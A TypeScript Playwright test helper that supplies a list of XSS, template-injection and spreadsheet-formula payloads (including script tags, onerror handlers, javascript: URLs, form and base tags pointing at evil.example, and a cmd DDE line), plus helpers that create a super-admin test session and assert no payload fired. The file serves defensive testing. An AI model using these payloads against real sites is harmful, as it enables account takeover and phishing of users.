/** Texts that would run if a screen took them for more than texts, and a way to write them through the API. */
import { createHash, randomBytes } from "node:crypto";

import type { Page } from "@playwright/test";

import { expect, sql } from "./test.ts";

const run = "window.__xss=1";

export const texts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror='${run}'>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<iframe src="javascript:parent.__xss=1">`,
  `<a href="javascript:${run}">press</a>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action=//evil.example><button>Sign in</button></form>`,
  `<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=${run}>`,
  `</title><script>${run}</script>`,
  `--><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `=HYPERLINK("https://evil.example","press")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `＜script＞${run}＜/script＞ \u202e<img src=x onerror=${run}>`,
];

/** Fits the shortest fields. */
export const short = `"><svg onload=${run}>`;

/**
 * A super admin for these tests, so that no one else's session ends; a new session each time, because of the limits.
 */
export async function enter(page: Page, userId: string): Promise<void> {
  const token = randomBytes(32).toString("base64url");
  const hash = createHash("sha256").update(token).digest("hex");
  await sql("insert into app_private.sessions (user_id, token_hash) values ($1, $2)", [userId, hash]);
  await page.context().addCookies([{ name: "sid", value: token, url: process.env.E2E_URL ?? "" }]);
}

export async function newPerson(): Promise<string> {
  const [made] = await sql<{ id: string }>(
    `with one as (
        insert into app_public.users (full_name, email, status, approved_at, email_verified_at)
        values ('Xena Sand', 'xena-' || gen_random_uuid() || '@example.org', 'approved', now(), now()) returning id
      ), role as (insert into app_public.user_roles (user_id, role) select id, 'super_admin' from one)
      select id from one`,
  );
  if (!made) throw new Error("Nobody was made.");
  return made.id;
}

export async function change(
  page: Page,
  name: string,
  input: object,
  selection: string,
): Promise<Record<string, unknown>> {
  const origin = process.env.E2E_URL ?? "";
  const type = `${name.charAt(0).toUpperCase()}${name.slice(1)}Input`;
  const answer = await page.request.post(`${origin}/graphql`, {
    headers: { origin, "x-plumbline": "1" },
    data: {
      query: `mutation($input: ${type}!) { ${name}(input: $input) { ${selection} } }`,
      variables: { input },
    },
  });
  const { data, errors } = await answer.json();
  if (errors) throw new Error(`${name}: ${JSON.stringify(errors)} for ${JSON.stringify(input)}`);
  return data[name];
}

/** What must not have happened on a page, whatever it shows. */
export async function expectQuiet(page: Page, where: string): Promise<void> {
  expect(await page.evaluate(() => Reflect.get(window, "__xss")), where).toBeUndefined();
  const foreign = page.locator("iframe, base, form[action*=evil], a[href^='javascript:' i]");
  expect(await foreign.count(), where).toBe(0);
}
